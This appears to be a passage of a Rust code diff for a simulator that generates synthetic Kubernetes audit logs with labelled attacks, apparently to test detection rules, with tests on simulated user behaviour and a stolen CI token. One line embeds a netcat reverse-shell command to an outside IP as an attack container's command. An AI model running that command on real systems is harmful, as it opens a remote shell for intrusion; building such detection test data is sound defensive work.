+                rbac("clusterroles"),
+                None,
                 role,
             )
         }
@@ -575,8 +959,6 @@ fn attack(w: &mut Writer<'_>, rng: &mut Rng, second: u64) -> std::io::Result<()>
                     "create",
                     "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews".into(),
                     who,
-                    ip,
-                    agent,
                     json!({"resource": "selfsubjectrulesreviews", "apiGroup": "authorization.k8s.io", "apiVersion": "v1"}),
                     201,
                 ),
@@ -596,20 +978,9 @@ fn attack(w: &mut Writer<'_>, rng: &mut Rng, second: u64) -> std::io::Result<()>
                         Some(&["/bin/sh", "-c", "nc 45.83.64.12 4444 -e /bin/sh"][..]),
                     ),
                 };
-            with_object(
-                event(
-                    id.clone(),
-                    second,
-                    "create",
-                    format!("/apis/apps/v1/namespaces/{ns}/deployments"),
-                    who,
-                    ip,
-                    agent,
-                    json!({"resource": "deployments", "namespace": ns, "name": name, "apiGroup": "apps", "apiVersion": "v1"}),
-                    201,
-                ),
-                deployment(ns, &name, image, privileged, host, command),
-            )
+            let object = deployment(ns, &name, image, privileged, host, command);
+            let api = ("apps", "deployments");
+            object_write(id.clone(), second, "create", who, api, Some(ns), object)
         }
     };
     w.write(&e)?;
@@ -617,7 +988,7 @@ fn attack(w: &mut Writer<'_>, rng: &mut Rng, second: u64) -> std::io::Result<()>
         audit_id: id,
         attack: technique,
         finding_type,
-        user: victim.name.to_string(),
+        user: user.to_string(),
         time: timestamp(second),
     })
 }
@@ -630,35 +1001,43 @@ pub fn run(
     labels: &mut dyn Write,
 ) -> std::io::Result<Summary> {
     let mut rng = Rng::new(config.seed);
+    let plan = plan(&mut rng, config);
+    let mut apps = APPS.to_vec();
     let mut w = Writer {
         out,
         labels,
         ids: 0,
         summary: Summary::default(),
     };
-    let per_minute_attack = config.attacks_per_day / (24.0 * 60.0);
-    for minute in 0..u64::from(config.days) * 24 * 60 {
+    let per_minute_attack = config.attacks_per_day / MINUTES_PER_DAY as f64;
+    for minute in 0..u64::from(config.days) * MINUTES_PER_DAY {
         let second = minute * 60;
+        let day = (minute / MINUTES_PER_DAY) as u32;
         let hour = minute / 60 % 24;
-        let working = (8..18).contains(&hour) && (minute / (24 * 60)) % 7 < 5;
-        // Machinery: about 20 calls a minute, day and night.
-        for i in 0..20 {
-            let e = machine_action(&mut w, &mut rng, second + i * 3);
+        let working = (8..18).contains(&hour) && is_working_day(day);
+        for i in 0..MACHINE_CALLS_PER_MINUTE {
+            let at = second + i * 60 / MACHINE_CALLS_PER_MINUTE;
+            let e = machine_action(&mut w, &mut rng, &apps, at);
             w.write(&e)?;
         }
-        // People, in working hours.
+        while plan.rollouts.get(apps.len() - APPS.len()) == Some(&minute) {
+            let app = NEW_APPS[apps.len() - APPS.len()];
+            rollout(&mut w, &mut rng, &app, second + 10)?;
+            apps.push(app);
+        }
+        // People, in working hours, once they have joined.
         if working {
-            for p in &PEOPLE {
-                if rng.chance(250) {
+            for (p, habits) in PEOPLE.iter().zip(&plan.habits) {
+                if day >= habits.joins && rng.chance(250) {
                     let at = second + 1 + rng.below(58);
-                    let e = person_action(&mut w, &mut rng, p, at);
+                    let e = person_action(&mut w, &mut rng, p, habits.caller(p, day), at);
                     w.write(&e)?;
                 }
             }
         }
-        let quiet = minute < u64::from(config.quiet_days) * 24 * 60;
+        let quiet = day < config.quiet_days;
         if !quiet && (rng.below(1_000_000) as f64) < per_minute_attack * 1_000_000.0 {
-            attack(&mut w, &mut rng, second + 30)?;
+            attack(&mut w, &mut rng, &plan.habits, day, second + 30)?;
         }
     }
     Ok(w.summary)
@@ -732,5 +1111,303 @@ mod tests {
             labels.len(),
             events.len()
         );
+    }
+
+    /// One simulation (seed 3, 8 days, 2 quiet), parsed once for the tests below.
+    fn sample() -> &'static (Vec<Value>, Vec<Value>) {
+        static SAMPLE: std::sync::OnceLock<(Vec<Value>, Vec<Value>)> = std::sync::OnceLock::new();
+        SAMPLE.get_or_init(|| {
+            let (events, labels) = simulate(3, 8);
+            let events = events
+                .lines()
+                .map(|l| serde_json::from_str(l).unwrap())
+                .collect();
+            (events, labels)
+        })
+    }
+
+    /// The sample's events that are not attacks.
+    fn benign() -> Vec<&'static Value> {
+        let (events, labels) = sample();
+        let attacks: std::collections::HashSet<&str> = labels
+            .iter()
+            .map(|l| l["auditId"].as_str().unwrap())
+            .collect();
+        events
+            .iter()
+            .filter(|e| !attacks.contains(text(e, "/auditID")))
+            .collect()
+    }
+
+    fn text<'a>(e: &'a Value, pointer: &str) -> &'a str {
+        e.pointer(pointer)
+            .and_then(Value::as_str)
+            .unwrap_or_default()
+    }
+
+    fn user(e: &Value) -> &str {
+        text(e, "/user/username")
+    }
+
+    fn ip(e: &Value) -> &str {
+        text(e, "/sourceIPs/0")
+    }
+
+    fn agent(e: &Value) -> &str {
+        text(e, "/userAgent")
+    }
+
+    fn time(e: &Value) -> &str {
+        text(e, "/requestReceivedTimestamp")
+    }
+
+    fn resource(e: &Value) -> &str {
+        text(e, "/objectRef/resource")
+    }
+
+    fn day_start(day: u64) -> String {
+        timestamp(day * 24 * 3600)
+    }
+
+    /// `linux/amd64` of `kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819`.
+    fn platform(agent: &str) -> &str {
+        agent.split(['(', ')']).nth(1).unwrap_or_default()
+    }
+
+    #[test]
+    fn people_have_their_own_networks_inside_the_benign_ranges_and_attackers_not() {
+        let offices: std::collections::HashSet<_> = PEOPLE.iter().map(|p| p.office).collect();
+        assert_eq!(offices.len(), PEOPLE.len(), "an office IP each");
+        for p in &PEOPLE {
+            assert!(p.office.starts_with("198.51.100."), "{}", p.name);
+            assert!(
+                p.home.is_none_or(|h| h.starts_with("203.0.113.")),
+                "{}",
+                p.name
+            );
+            assert!(p.upgraded.starts_with("kubectl/"));
+            assert_eq!(platform(p.agent), platform(p.upgraded), "{}", p.name);
+        }
+        for network in ATTACKER_NETWORKS {
+            for benign in ["198.51.100.", "203.0.113.", "192.0.2.", "10."] {
+                assert!(!network.starts_with(benign), "{network}");
+            }
+        }
+        let (events, _) = sample();
+        let per_day = events.len() / 8;
+        assert!(
+            (30_000..40_000).contains(&per_day),
+            "{per_day} events a day"
+        );
+    }
+
+    #[test]
+    fn people_upgrade_kubectl_and_work_from_home_and_now_and_then_from_a_hotel() {
+        let events = benign();
+        let quiet_end = day_start(2);
+        let mut hotel_days = std::collections::HashMap::new();
+        let mut home_in_quiet_days = false;
+        for p in PEOPLE.iter().filter(|p| !p.new_hire) {
+            let theirs: Vec<&Value> = events
+                .iter()
+                .copied()
+                .filter(|e| user(e) == p.name)
+                .collect();
+            let last_old = theirs
+                .iter()
+                .filter(|e| agent(e) == p.agent)
+                .map(|e| time(e))
+                .max();
+            let first_new = theirs
+                .iter()
+                .filter(|e| agent(e) == p.upgraded)
+                .map(|e| time(e))
+                .min();
+            assert!(
+                last_old.is_some() && first_new.is_some(),
+                "{} upgrades",
+                p.name
+            );
+            assert!(last_old < first_new, "{} upgrades once", p.name);
+            for e in &theirs {
+                let ip = ip(e);
+                if ip.starts_with("192.0.2.") {
+                    hotel_days
+                        .entry(ip)
+                        .or_insert_with(std::collections::HashSet::new)
+                        .insert((p.name, &time(e)[..10]));
+                } else {
+                    assert!(ip == p.office || Some(ip) == p.home, "{} from {ip}", p.name);
+                    home_in_quiet_days |= Some(ip) == p.home && time(e) < quiet_end.as_str();
+                }
+            }
+        }
+        assert!(
+            home_in_quiet_days,
+            "working from home is a habit from the start"
+        );
+        assert!(!hotel_days.is_empty(), "someone travels");
+        for (network, days) in &hotel_days {
+            assert_eq!(days.len(), 1, "{network} is one person's one day");
+        }
+        let after_quiet = hotel_days
+            .values()
+            .flatten()
+            .any(|(_, day)| *day >= &quiet_end[..10]);
+        assert!(after_quiet, "a trip after the quiet days");
+    }
+
+    #[test]
+    fn a_new_hire_joins_after_the_quiet_days_from_the_office_with_the_team_kubectl() {
+        let events = benign();
+        let hire = PEOPLE.iter().find(|p| p.new_hire).unwrap();
+        let theirs: Vec<&Value> = events
+            .iter()
+            .copied()
+            .filter(|e| user(e) == hire.name)
+            .collect();
+        assert!(!theirs.is_empty());
+        let joined = day_start(3);
+        for e in &theirs {
+            assert!(time(e) >= joined.as_str(), "{}", time(e));
+            assert_eq!((ip(e), agent(e)), (hire.office, TEAM_KUBECTL));
+            assert_eq!(text(e, "/objectRef/namespace"), "web");
+            let exec = text(e, "/objectRef/subresource") == "exec";
+            assert!(exec || ["get", "list"].contains(&text(e, "/verb")), "{e}");
+        }
+        assert!(
+            theirs
+                .iter()
+                .any(|e| text(e, "/objectRef/subresource") == "exec")
+        );
+    }
+
+    #[test]
+    fn every_anomaly_domain_has_benign_traffic_during_the_quiet_days() {
+        let (events, labels) = sample();
+        assert!(
+            labels
+                .iter()
+                .all(|l| l["time"].as_str().unwrap() >= day_start(2).as_str())
+        );
+        let quiet_end = day_start(2);
+        let quiet: Vec<&Value> = events
+            .iter()
+            .filter(|e| time(e) < quiet_end.as_str())
+            .collect();
+        let person = |e: &Value| PEOPLE.iter().any(|p| p.name == user(e));
+        let kubelet_secret = |e: &Value| {
+            let node = user(e).strip_prefix("system:node:").unwrap_or_default();
+            resource(e) == "secrets" && !node.is_empty() && ip(e) == node_ip(node)
+        };
+        type Is<'a> = &'a dyn Fn(&Value) -> bool;
+        let domains: [(&str, Is); 9] = [
+            ("a person reads a secret", &|e| {
+                person(e) && resource(e) == "secrets"
+            }),
+            ("a kubelet reads a pod's secret", &kubelet_secret),
+            ("a person binds a role", &|e| {
+                person(e) && resource(e) == "rolebindings"
+            }),
+            ("a person execs", &|e| {
+                person(e) && text(e, "/objectRef/subresource") == "exec"
+            }),
+            ("the deployer writes a Role", &|e| {
+                user(e) == DEPLOYER && resource(e) == "roles"
+            }),
+            ("the deployer deploys", &|e| {
+                user(e) == DEPLOYER && resource(e) == "deployments"
+            }),
+            ("the node agent", &|e| {
+                user(e) == DEPLOYER && resource(e) == "daemonsets"
+            }),
+            ("a person deploys", &|e| {
+                person(e) && resource(e) == "deployments"
+            }),
+            ("a person checks a permission", &|e| {
+                person(e) && resource(e) == "selfsubjectaccessreviews"
+            }),
+        ];
+        for (domain, is) in domains {
+            assert!(quiet.iter().any(|e| is(e)), "{domain}");
+        }
+        // The node agent is privileged and mounts /proc and /sys, as rules will see it.
+        let node_agent = quiet.iter().find(|e| resource(e) == "daemonsets").unwrap();
+        assert!(
+            text(node_agent, "/requestURI")
+                .starts_with("/apis/apps/v1/namespaces/monitoring/daemonsets/")
+        );
+        let normalized = peregrine_rules_sdk::normalize::Normalizer::new("sim")
+            .event_from_value(node_agent)
+            .unwrap();
+        let Some(peregrine_rules_sdk::ObjectView::Workload(workload)) =
+            normalized.object.map(|o| o.view)
+        else {
+            panic!("the DaemonSet decodes as a workload");
+        };
+        assert_eq!(workload.kind, "DaemonSet");
+        assert_eq!(
+            workload.containers[0].security_context.privileged,
+            Some(true)
+        );
+        let paths: Vec<_> = workload
+            .volumes
+            .iter()
+            .filter_map(|v| v.host_path.as_deref())
+            .collect();
+        assert_eq!(paths, ["/proc", "/sys"]);
+        assert!(
+            workload.containers[0]
+                .volume_mounts
+                .iter()
+                .all(|m| m.read_only)
+        );
+    }
+
+    #[test]
+    fn the_deployer_rolls_out_new_applications_and_ops_admin_writes_cluster_roles() {
+        let events = benign();
+        let known: Vec<String> = APPS.iter().map(App::repository).collect();
+        let new_app = events.iter().find(|e| {
+            let image = text(e, "/responseObject/spec/template/spec/containers/0/image");
+            let repository = image.split(':').next().unwrap_or_default();
+            user(e) == DEPLOYER
+                && resource(e) == "deployments"
+                && !known.iter().any(|k| k == repository)
+        });
+        let new_app = new_app.expect("a new application");
+        assert_eq!(new_app["responseStatus"]["code"], 201);
+        assert!(
+            text(
+                new_app,
+                "/responseObject/spec/template/spec/containers/0/image"
+            )
+            .starts_with("registry.example.com/")
+        );
+        let cluster_role = events
+            .iter()
+            .any(|e| user(e) == "ops-admin@example.com" && resource(e) == "clusterroles");
+        assert!(cluster_role, "ops-admin writes a ClusterRole");
+    }
+
+    #[test]
+    fn a_stolen_ci_token_is_used_from_an_attacker_network_to_deploy_and_read_secrets() {
+        let (events, labels) = sample();
+        let by_id: std::collections::HashMap<&str, &Value> =
+            events.iter().map(|e| (text(e, "/auditID"), e)).collect();
+        for label in labels {
+            let e = by_id[label["auditId"].as_str().unwrap()];
+            assert!(ATTACKER_NETWORKS.contains(&ip(e)), "{e}");
+            assert!(ATTACKER_AGENTS.contains(&agent(e)), "{e}");
+        }
+        let stolen: Vec<&Value> = labels.iter().filter(|l| l["user"] == DEPLOYER).collect();
+        assert!(!stolen.is_empty(), "the CI token is stolen");
+        for label in stolen {
+            let attack = label["attack"].as_str().unwrap();
+            assert!(
+                attack == "secrets-harvest" || attack.ends_with("-workload"),
+                "{attack}"
+            );
+        }
     }
 }
